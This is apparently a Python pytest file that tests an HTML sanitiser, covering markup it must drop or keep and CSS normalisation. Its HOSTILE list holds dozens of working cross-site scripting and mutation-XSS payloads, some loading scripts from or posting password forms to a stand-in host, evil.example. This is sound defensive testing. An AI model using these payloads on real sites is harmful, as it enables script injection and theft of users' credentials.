"""Somebody else's HTML: what is dropped, what is kept, and that a second pass changes nothing."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from webapp.infra import styles
from webapp.infra.sanitising import BLOCKS, INLINE, is_plain, paragraphs, sanitise

SEED = (
    '\n <div class="te-pro-gallery-text-item"\n style="padding: 30px;\n width: 420px;\n height: 420px;\n'
    " background-color: rgba(232, 230, 230, 0.7);\n transform-style: preserve-3d;\n overflow: hidden;\n"
    ' word-wrap: break-word;\n ">\n <div style="\n position: relative;\n top: 50%;\n transform: translateY(-50%);">\n'
    ' <p style="text-align:center"><span style="color:#d2f6de;"><span style="font-size:50px">woohoo</span></span></p>'
    "\n\n </div>\n </div>"
)
HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="/\\evil.example/">x</a>',
    '<a href="https://">x</a>',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x.swf></object><embed src=x.swf>",
    "<template><script>alert(1)</script></template>",
    '<style>@import url("//evil.example/x.css"); body { display: none }</style>',
    '<link rel=stylesheet href="//evil.example/x.css"><base href="//evil.example/">',
    "<meta http-equiv=refresh content=0>",
    '<form action="//evil.example/"><input name=password><button formaction=//evil.example>x</button></form>',
    '<p style="background:url(//evil.example/x.png)">x</p>',
    '<p style="background-image:url(data:image/png;base64,x);list-style:url(x)">x</p>',
    '<p style="width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x)">x</p>',
    '<p style="color:\\72 ed;co\\6cor:red;color:red}body{display:none">x</p>',
    '<p style="position:fixed;inset:0;z-index:99999;font-size:9999px">x</p>',
    '<p style="color:var(--x);color:url(&quot;javascript:1&quot;)">x</p>',
    '<p class="app rail" id="main" name="x" data-module="//evil.example/x.js" hx-get="/x">x</p>',
    '<a href="https://example.org" target="_top" ping="//evil.example" download>x</a>',
    "<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>",
    "<!-- <script>alert(1)</script> --><![CDATA[<script>alert(1)</script>]]><?php echo 1 ?>",
    "<title><img src=x onerror=alert(1)></title><textarea><img src=x onerror=alert(1)></textarea>",
    "<p\x00 style=\x00color:red\x00>x</p><a href='java\x00script:1'>x</a>",
    "<audio src=x onerror=alert(1)><video poster=javascript:1><source onerror=alert(1)></video>",
    "<isindex action=javascript:1 type=image><marquee onstart=alert(1)>x</marquee>",
    "<bdo dir=evil lang='x\" onclick=1'>x</bdo>",
]
ALLOWED = re.compile(r"<(/?)([a-z0-9]+)((?: [a-z-]+=\"[^\"<>]*\")*)>")
ATTRIBUTE = re.compile(r' ([a-z-]+)="([^"<>]*)"')


def assert_harmless(markup):
    """Read markup with no mercy: known elements, known attributes, known values, and nothing else."""
    rest = ALLOWED.sub("", markup)
    assert "<" not in rest, rest
    for _, tag, attributes in ALLOWED.findall(markup):
        assert tag in BLOCKS | INLINE
        for name, value in ATTRIBUTE.findall(attributes):
            assert name in {"href", "rel", "dir", "lang", "class", "data-style"}
            if name == "href":
                assert re.match(r"(https?://[^/]|mailto:|tel:|/(?!/)|#)", value)
            if name == "class":
                assert re.fullmatch(r"s[0-9a-f]{12}( s[0-9a-f]{12})*", value)


@pytest.mark.parametrize("html", HOSTILE)
def test_what_runs_loads_or_escapes_is_dropped(html):
    for given_html in (html, f"<div><p>{html}</p></div>", html * 3):
        found = sanitise(given_html)

        assert_harmless(found.markup)
        assert_harmless(found.editable)
        assert "alert" not in found.markup or "alert" in found.text
        for name in styles.addresses(found.declarations):
            sheet = styles.stylesheet(name)
            assert not re.search(r"url|expression|import|@(?!layer)|fixed|\\\\", sheet)


def test_d21_the_seeds_text_is_shown_with_its_colour_size_and_alignment():
    found = sanitise(SEED)

    assert found.text == "woohoo"
    assert found.declarations == ("text-align:center", "color:#d2f6de", "font-size:50px")
    sheet = styles.stylesheet(styles.addresses(found.declarations)[0])
    for declaration in ("text-align:center", "color:#d2f6de", "font-size:3.125rem"):
        assert declaration in sheet


def test_what_the_editor_offers_is_kept():
    html = (
        "<h2>Programme</h2><h3>Friday</h3><p>One <strong>quay</strong>, <em>three</em> <u>evenings</u><br>more</p>"
        '<ul><li>One</li></ul><ol><li>Two</li></ol><blockquote>Three</blockquote><p dir="ltr" lang="fr">Quai</p>'
    )

    assert sanitise(html).markup == html


def test_links_lead_out_without_saying_whence():
    found = sanitise('<a href="https://example.org/a?b=1&amp;c=2">x</a><a href="/g/summer">y</a>')

    assert found.markup == (
        '<a href="https://example.org/a?b=1&amp;c=2" rel="noopener noreferrer nofollow">x</a>'
        '<a href="/g/summer" rel="noopener noreferrer nofollow">y</a>'
    )


def test_the_pages_title_stays_its_only_first_heading():
    assert sanitise("<h1>Big</h1>").markup == "<h2>Big</h2>"


@pytest.mark.parametrize("tag", ["b", "div", "ul><li", "blockquote"])
def test_deep_nesting_keeps_its_words_and_ends(tag):
    found = sanitise(f"<{tag}>" * 4000 + "deep")

    assert "deep" in found.text
    assert found.markup.count("<") < 200


def test_too_long_a_text_is_cut_and_does_not_fail():
    assert len(sanitise("<b>x" * 100_000).text) < 100_000


@given(st.text(max_size=200))
def test_any_text_is_harmless(text):
    assert_harmless(sanitise(text).markup)


@given(st.lists(st.sampled_from([*HOSTILE, "<p>", "</p>", "<b>", "</b>", "<ul><li>", "'", '"', ">", "<", "&lt;"])))
def test_any_mixture_is_harmless_and_stays_what_it_is(parts):
    once = sanitise("".join(parts)).markup

    assert_harmless(once)
    assert_harmless(sanitise(once).markup)


def test_plain_words_become_paragraphs():
    assert is_plain("a < b & c")
    assert not is_plain("a <b>")
    assert paragraphs("One\ntwo\n\n\nthree & <") == "<p>One<br>two</p><p>three &amp; &lt;</p>"


class TestStyles:
    @pytest.mark.parametrize(
        ("style", "kept"),
        [
            ("color: RED", ("color:#ff0000",)),
            ("color:#AbC", ("color:#aabbcc",)),
            ("color: rgba(232, 230, 230, 0.7)", ("color:rgba(232,230,230,0.7)",)),
            ("color: rgba(1,2,3,1)", ("color:#010203",)),
            ("color: rgb(300,0,0)", ()),
            ("background: #fff", ("background-color:#ffffff",)),
            ("background: #fff url(x)", ()),
            ("font-size: 12pt", ("font-size:16px",)),
            ("font-size: 2em", ("font-size:32px",)),
            ("font-size: 4000px", ("font-size:96px",)),
            ("font-size: calc(1px)", ()),
            ("text-align: center !important", ("text-align:center",)),
            ("text-decoration-line: underline", ("text-decoration:underline",)),
            ("color: red; color: blue", ("color:#0000ff",)),
            ("color", ()),
            (";;:;", ()),
        ],
    )
    def test_declarations_have_one_spelling(self, style, kept):
        assert styles.declarations(style) == kept
        assert styles.declarations(";".join(kept)) == kept

    def test_a_stylesheet_is_what_its_address_says(self):
        wanted = ["color:#2f3fe0", "font-size:20px"]

        (name,) = styles.addresses(wanted)

        assert styles.addresses(reversed(wanted)) == [name]
        assert styles.stylesheet(name) == (
            f"@layer pages{{.{styles.class_of(wanted[0])}{{color:light-dark(#2f3fe0, #93a0ff)}}"
            f".{styles.class_of(wanted[1])}{{font-size:1.25rem}}}}"
        )

    def test_many_declarations_are_parted(self):
        wanted = [f"font-size:{size}px" for size in range(8, 90)]

        names = styles.addresses(wanted)

        assert len(names) == 2
        assert all(f".{styles.class_of(each)}{{" in "".join(map(styles.stylesheet, names)) for each in wanted)

    @pytest.mark.parametrize("found", [["color:red"], ["position:fixed"], ["color:#ff0000}*{x:y"], [""], ["x"] * 61])
    def test_an_address_that_says_something_else_is_none(self, found):
        assert styles.stylesheet(styles._pack(found)) is None

    def test_a_bomb_is_none(self):
        assert styles.stylesheet(styles._pack(["color:#ff0000"] * 100_000)) is None

    def test_letters_are_chosen_for_a_colour(self):
        light = [each for each in ("#ffffff", "#151816", "rgba(232,230,230,0.7)") if styles.is_light(each)]

        assert light == ["#ffffff", "rgba(232,230,230,0.7)"]
